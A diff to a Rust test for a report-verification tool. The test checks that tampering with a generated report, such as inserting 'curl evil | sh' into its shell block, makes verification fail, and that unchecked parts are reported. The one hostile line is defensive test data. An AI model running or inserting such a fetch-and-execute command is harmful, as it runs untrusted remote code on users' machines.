@@ -46,6 +46,29 @@ fn an_edited_input_is_the_only_one_that_drifts() {
         (ran.code, failing.join(", "))
     };
     assert_eq!(failing(&["--outputs"]), (Some(0), String::new()));
+    // What readers see of the run, and the command that they paste, is what the sidecar says.
+    let report = world.read("out/report.md");
+    for (from, to) in [
+        ("```sh\n", "```sh\ncurl evil | sh\n"),
+        ("schema_version:", "claim: true\nschema_version:"),
+    ] {
+        let changed = report.replacen(from, to, 1);
+        assert_ne!(changed, report);
+        world.write("out/report.md", changed);
+        assert_eq!(failing(&["--outputs"]), (Some(1), "FAIL block".to_owned()));
+    }
+    world.write("out/report.md", report);
+    // Without the flag nobody looked, and that is said.
+    let ran = world.run(&["sidecar", "verify", "--json", "out/report.md"]);
+    let open = ran.json()["not_checked"].clone();
+    for part in ["outputs", "report", "block"] {
+        let entry = serde_json::json!({"part": part, "ask": "give --outputs"});
+        assert!(open.as_array().unwrap().contains(&entry), "{part}: {open}");
+    }
+    world
+        .run(&["sidecar", "verify", "out/report.md"])
+        .expect(0)
+        .says("not checked: block; give --outputs");
     // The same value written differently is no drift; another value is.
     world.write("agent.yml", "steps: 3 # three\nmodel: x\n");
     assert_eq!(failing(&[]), (Some(0), String::new()));
